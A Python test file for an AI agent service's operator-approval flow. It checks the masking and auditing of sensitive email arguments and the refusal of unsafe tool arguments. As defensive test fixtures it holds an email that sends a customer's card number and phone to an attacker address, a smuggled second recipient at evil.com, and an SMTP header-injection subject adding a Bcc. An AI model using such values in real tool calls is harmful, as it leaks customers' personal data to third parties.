"""Operators approve what will really run: unmasked arguments for operators only (audited), a
summary of what is sensitive for everyone, and arguments that cannot be approved safely
(several recipients, non-finite amounts, header injection) refused before any approval.

Through HTTP with the fake model server, the real demo tools and a real SMTP server.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from app.demo.fixtures import DELIVERED_ORDER, LI_LEI
from app.demo.testing import SmtpSink
from app.llm.testing import FakeLLMServer, Reply, ToolCall, ToolCalls
from app.testing import LiveService, serve
from tests.api.test_sessions import assert_error
from tests.api.test_tools_api import _stream_until
from tests.conftest import new_session

AGENT, OPERATOR = "acme-agent-key-0001", "acme-operator-key-1"
AS_OPERATOR = {"Authorization": f"Bearer {OPERATOR}"}

CARD, PHONE = "6222021234567890123", "13800138000"
ATTACKER = "lx.attacker@example.com"


@pytest.fixture
def sink() -> Iterator[SmtpSink]:
    with SmtpSink() as server:
        yield server


@pytest.fixture
async def svc(make_settings: Any, sink: SmtpSink) -> AsyncIterator[LiveService]:
    settings = make_settings(
        smtp_host=sink.host,
        smtp_port=sink.port,
        auth="api_key",
        api_keys=[f"acme:agent:{AGENT}", f"acme:operator:{OPERATOR}"],
    )
    async with serve(settings) as service:
        service.client.headers["Authorization"] = f"Bearer {AGENT}"
        yield service


def _rows(path: Path, sql: str, *params: Any) -> list[tuple[Any, ...]]:
    conn = sqlite3.connect(path)
    try:
        return [tuple(r) for r in conn.execute(sql, params)]
    finally:
        conn.close()


async def _stored(svc: LiveService, sql: str, *params: Any) -> list[tuple[Any, ...]]:
    """Rows of Hermes's own database, whichever engine it is."""
    return [tuple(r) for r in await svc.runtime.db.fetchall(sql, params)]


async def _audit(svc: LiveService, action: str) -> list[tuple[Any, ...]]:
    return await _stored(
        svc,
        "SELECT tenant_id, actor, role, target_id, session_id, details FROM audit_log"
        " WHERE action = ? ORDER BY id",
        action,
    )


def _last_result(fake_llm: FakeLLMServer) -> dict[str, Any]:
    result: dict[str, Any] = json.loads(fake_llm.requests[-1].messages[-1]["content"])
    return result


async def test_the_operator_sees_the_real_recipient_and_body_the_agent_does_not(
    svc: LiveService, fake_llm: FakeLLMServer, sink: SmtpSink
) -> None:
    body = f"Your card {CARD} is on file; we will call {PHONE}."
    arguments = {"to": ATTACKER, "subject": "Your card", "body": body}
    fake_llm.enqueue(ToolCalls(ToolCall("send_email", arguments)), Reply("Sent."))
    session_id = await new_session(svc, LI_LEI)
    events, (manager, iterator) = await _stream_until(
        svc, session_id, "email me my card details", "approval.requested"
    )
    requested = events[-1].data
    approval_id = requested["approval_id"]
    # The event goes to browsers and logs: masked, with the summary.
    assert requested["arguments"]["to"] == "l***@example.com"
    assert CARD not in json.dumps(requested) and PHONE not in json.dumps(requested)
    by_field = {s["field"]: s for s in requested["sensitive"]}
    assert by_field["body"]["kinds"] == ["bank_card", "phone"]
    assert by_field["to"]["kinds"] == ["email"]

    url = f"/v1/sessions/{session_id}/approvals/{approval_id}"
    as_agent = await svc.client.get(url)
    assert as_agent.status_code == 200, as_agent.text
    seen = as_agent.json()
    assert "arguments_full" not in seen
    assert seen["arguments"]["to"] == "l***@example.com"
    for secret in (CARD, PHONE, ATTACKER):
        assert secret not in as_agent.text
    body_summary = next(s for s in seen["sensitive"] if s["field"] == "body")
    assert body_summary["kinds"] == ["bank_card", "phone"]
    assert "bank card" in body_summary["note"] and "phone" in body_summary["note"]
    listed = (await svc.client.get(f"/v1/sessions/{session_id}/approvals")).json()["items"]
    assert "arguments_full" not in listed[0]
    assert (await _audit(svc, "approval.read_full")) == []  # nothing unmasked was shown yet

    as_operator = await svc.client.get(url, headers=AS_OPERATOR)
    assert as_operator.status_code == 200
    full = as_operator.json()["arguments_full"]
    assert full == arguments
    assert as_operator.json()["arguments"]["to"] == "l***@example.com"
    [read] = await _audit(svc, "approval.read_full")
    tenant, actor, role, target, audited_session, details = read
    assert (tenant, role, target, audited_session) == ("acme", "operator", approval_id, session_id)
    assert json.loads(details)["tool"] == "send_email"
    assert CARD not in details and ATTACKER not in details
    listed = (
        await svc.client.get(f"/v1/sessions/{session_id}/approvals", headers=AS_OPERATOR)
    ).json()["items"]
    assert listed[0]["arguments_full"] == arguments
    assert len(await _audit(svc, "approval.read_full")) == 2  # every read that shows it

    decided = await svc.client.post(url, json={"decision": "approve"}, headers=AS_OPERATOR)
    assert decided.status_code == 200
    assert decided.json()["decided_by"] == actor  # the audit names the same person
    assert decided.json()["arguments_full"] == arguments
    assert len(await _audit(svc, "approval.read_full")) == 3
    [decision] = await _audit(svc, "approval.decided")
    assert decision[:5] == ("acme", actor, "operator", approval_id, session_id)
    assert json.loads(decision[5])["decision"] == "approved"
    rest = [e async for e in iterator]
    await manager.__aexit__(None, None, None)
    assert rest[-1].event == "turn.completed"
    [message] = sink.received()
    assert message["To"] == ATTACKER
    assert CARD in message.get_content() and PHONE in message.get_content()
    # Nothing unmasked went into the stored events.
    events_text = " ".join(r[0] for r in await _stored(svc, "SELECT data FROM events"))
    assert CARD not in events_text and ATTACKER not in events_text


async def test_an_unknown_approval_is_not_found(svc: LiveService) -> None:
    session_id = await new_session(svc, LI_LEI)
    assert_error(
        await svc.client.get(f"/v1/sessions/{session_id}/approvals/apr_nope", headers=AS_OPERATOR),
        404,
        "approval_not_found",
    )


async def test_two_recipients_in_one_field_are_refused_before_any_approval(
    svc: LiveService, fake_llm: FakeLLMServer, sink: SmtpSink
) -> None:
    arguments = {"to": "attacker@evil.com,li.lei@example.com", "subject": "Hi", "body": "Hello"}
    fake_llm.enqueue(ToolCalls(ToolCall("send_email", arguments)), Reply("I could not send it."))
    session_id = await new_session(svc, LI_LEI)
    body = (
        await svc.client.post(f"/v1/sessions/{session_id}/messages", json={"content": "email me"})
    ).json()
    assert body["status"] == "completed"
    error = _last_result(fake_llm)["error"]
    assert error["code"] == "invalid_arguments"
    assert "to" in error["message"] and "one plain email address" in error["message"]
    await _nothing_happened(svc, session_id, sink)


@pytest.mark.parametrize("amount", ["Infinity", "NaN", "-Infinity"])
async def test_a_non_finite_amount_is_refused_before_any_approval(
    svc: LiveService, fake_llm: FakeLLMServer, sink: SmtpSink, amount: str
) -> None:
    demo_db = svc.runtime.settings.demo.db_path
    refunds = _rows(demo_db, "SELECT COUNT(*) FROM refunds")
    raw = f'{{"order_id": "{DELIVERED_ORDER}", "amount": {amount}}}'
    fake_llm.enqueue(ToolCalls(ToolCall("request_refund", raw)), Reply("Which amount?"))
    session_id = await new_session(svc, LI_LEI)
    body = (
        await svc.client.post(
            f"/v1/sessions/{session_id}/messages",
            json={"content": f"I want a refund for order {DELIVERED_ORDER}"},
        )
    ).json()
    assert body["status"] == "completed"
    error = _last_result(fake_llm)["error"]
    assert error["code"] == "invalid_arguments"
    assert "amount" in error["message"] and "finite number" in error["message"]
    await _nothing_happened(svc, session_id, sink)
    assert _rows(demo_db, "SELECT COUNT(*) FROM refunds") == refunds


async def test_a_line_break_in_the_subject_is_refused_before_any_approval(
    svc: LiveService, fake_llm: FakeLLMServer, sink: SmtpSink
) -> None:
    arguments = {
        "to": "li.lei@example.com",
        "subject": "Your order\r\nBcc: x@evil.com",
        "body": "Line one.\nLine two.",  # a multi-line body is fine
    }
    fake_llm.enqueue(ToolCalls(ToolCall("send_email", arguments)), Reply("I could not send it."))
    session_id = await new_session(svc, LI_LEI)
    await svc.client.post(f"/v1/sessions/{session_id}/messages", json={"content": "email me"})
    error = _last_result(fake_llm)["error"]
    assert error["code"] == "invalid_arguments"
    assert "subject: expected one line without control characters" in error["message"]
    assert "subject" in error["hint"]
    await _nothing_happened(svc, session_id, sink)


async def _nothing_happened(svc: LiveService, session_id: str, sink: SmtpSink) -> None:
    approvals = await svc.client.get(f"/v1/sessions/{session_id}/approvals", headers=AS_OPERATOR)
    assert approvals.json()["items"] == []
    assert sink.received() == []
    demo_db = svc.runtime.settings.demo.db_path
    assert _rows(demo_db, "SELECT COUNT(*) FROM emails WHERE session_id = ?", session_id) == [(0,)]
